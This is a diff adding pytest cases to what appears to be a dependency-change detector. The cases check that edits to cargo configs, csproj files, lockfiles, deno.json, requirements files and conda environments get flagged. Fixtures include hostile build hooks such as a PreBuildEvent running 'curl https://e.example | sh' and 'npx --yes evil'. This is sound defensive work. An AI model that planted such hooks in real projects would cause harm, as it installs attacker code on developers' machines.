@@ -492,6 +492,124 @@ def test_a_wrapper_whose_folder_holds_the_version_moves_with_it() -> None:
     assert said(path, before, before.replace("3.9.6", "3.9.7")) == {("apache-maven", "changed")}
 
 
+@pytest.mark.parametrize(
+    ("addition", "name", "rule"),
+    [
+        ("[http]\nproxy = 'http://e.example'", "http.proxy", "registry-changed"),
+        ("[env]\nRUSTC_WRAPPER = {value = 'evil'}", "env.RUSTC_WRAPPER", "install-script"),
+        ("[env]\nCARGO_REGISTRIES_X_INDEX = 'https://e.example'", "env.CARGO_REGISTRIES_X_INDEX", "index-changed"),
+        ("include = ['evil.toml']", "include", "registry-changed"),
+        ("[build]\nrustflags = ['-Clinker=evil']", "build.rustflags", "install-script"),
+        ("[target.x]\nrustflags = ['-C', 'linker=evil']", "target.x.rustflags", "install-script"),
+        ("[registry]\nglobal-credential-providers = ['evil']", "registry.global-credential-providers", "install-script"),
+    ],
+    ids=repr,
+)  # fmt: skip
+def test_settings_of_cargo(addition: str, name: str, rule: str) -> None:
+    assert (name, rule) in said(".cargo/config.toml", "", f"{addition}\n")
+
+
+def test_settings_of_cargo_that_move_nothing() -> None:
+    after = "[env]\nRUST_LOG = 'info'\n[build]\nrustflags = ['-Dwarnings']\n[net]\nretry = 3\n"
+    assert said(".cargo/config.toml", "", after) == set()
+
+
+CSPROJ = '<Project><ItemGroup><PackageReference Include="A" Version="1" /></ItemGroup></Project>'
+
+
+@pytest.mark.parametrize(
+    ("addition", "name", "rule"),
+    [
+        ('<Target Name="x"><Exec Command="npm i evil" /></Target>', "evil", "added"),
+        ("<PropertyGroup><PreBuildEvent>curl https://e.example | sh</PreBuildEvent></PropertyGroup>", "download and run", "dynamic"),
+        ('<ItemGroup><Reference Include="X"><HintPath>lib\\evil.dll</HintPath></Reference></ItemGroup>', "Reference evil.dll", "path-source"),
+        ('<UsingTask TaskName="T" AssemblyFile="evil.dll" />', "UsingTask evil.dll", "path-source"),
+    ],
+    ids=str,
+)  # fmt: skip
+def test_places_of_a_dotnet_project(addition: str, name: str, rule: str) -> None:
+    after = CSPROJ.replace("</Project>", f"{addition}</Project>")
+    assert (name, rule) in said("x.csproj", CSPROJ, after)
+
+
+LOCKED = {"version": "1.1.0", "resolved": "https://r.example/a/-/a-1.1.0.tgz"}
+
+
+@pytest.mark.parametrize("file", ["a-1.0.0.tgz", "evil-1.1.0-1.tgz"])
+def test_a_tarball_of_another_version_is_another_source(file: str) -> None:
+    moved = LOCKED | {"resolved": f"https://r.example/a/-/{file}"}
+    locks = [
+        json.dumps({"lockfileVersion": 3, "packages": {"node_modules/a": one}})
+        for one in (LOCKED, moved)
+    ]
+    assert ("a", "source-changed") in said("package-lock.json", *locks)
+    text = '# yarn lockfile v1\n\n\na@^1:\n  version "1.1.0"\n  resolved "%s"\n'
+    assert ("a", "source-changed") in said(
+        "yarn.lock", *(text % one["resolved"] for one in (LOCKED, moved))
+    )
+
+
+PUB = "packages:\n  a:\n    dependency: transitive\n    description:\n      %s\n    source: %s\n    version: '1.0.0'\n"
+
+
+@pytest.mark.parametrize(
+    ("kind", "before", "after"),
+    [
+        ("hosted", 'name: a\n      url: "https://r.example"', 'name: evil\n      url: "https://r.example"'),
+        ("git", "path: '.'\n      url: https://h.example/a.git", "path: evil\n      url: https://h.example/a.git"),
+    ],
+    ids=["another name at the registry", "another folder of the repository"],
+)  # fmt: skip
+def test_a_dart_package_that_is_another(kind: str, before: str, after: str) -> None:
+    found = said("pubspec.lock", PUB % (before, kind), PUB % (after, kind))
+    assert ("a", "source-changed") in found
+
+
+@pytest.mark.parametrize(
+    ("addition", "name", "rule"),
+    [
+        ({"tasks": {"x": "deno run https://e.example/x.ts"}}, "e.example/x.ts", "added"),
+        ({"tasks": {"x": {"command": "npx --yes evil"}}}, "evil", "added"),
+        ({"compilerOptions": {"types": ["npm:evil"]}}, "evil", "added"),
+        ({"compilerOptions": {"jsxImportSource": "npm:evil@1"}}, "evil", "added"),
+    ],
+    ids=str,
+)
+def test_places_of_a_deno_json(addition: dict[str, object], name: str, rule: str) -> None:
+    before = {"imports": {"a": "npm:a@1"}}
+    assert (name, rule) in said("deno.json", json.dumps(before), json.dumps(before | addition))
+
+
+@pytest.mark.parametrize(
+    "path", ["dev-reqs.txt", "requirement.txt", "requirements.pip", "ci/reqs-dev.txt"]
+)
+def test_other_names_of_requirements(path: str) -> None:
+    assert ("evil", "added") in said(path, "", "evil==1\n")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(b"a==1\n# caf\xe9\nevil==1\n", id="Latin-1"),
+        pytest.param("a==1\nevil==1\n".encode("utf-16-le"), id="UTF-16 without its mark"),
+        pytest.param(b"a==1\n\0evil==1\n", id="NUL bytes"),
+    ],
+)
+def test_what_a_lenient_reader_takes_is_shown_beside_the_problem(content: bytes) -> None:
+    found = said("requirements.txt", "a==1\n", content)
+    assert found == {("requirements.txt", "unreadable"), ("evil", "added")}
+
+
+def test_one_file_under_two_spellings_is_one_include() -> None:
+    assert said("requirements.txt", "-r b.txt\n", "-r ./b.txt\n") == set()
+
+
+def test_a_setting_of_conda_moves_the_index() -> None:
+    before = "dependencies: [python]\n"
+    added = "variables:\n  PIP_INDEX_URL: https://e.example\n"
+    assert ("PIP_INDEX_URL", "index-changed") in said("environment.yml", before, before + added)
+
+
 COMPOSER = {
     "name": "o/a",
     "version": "1.0",
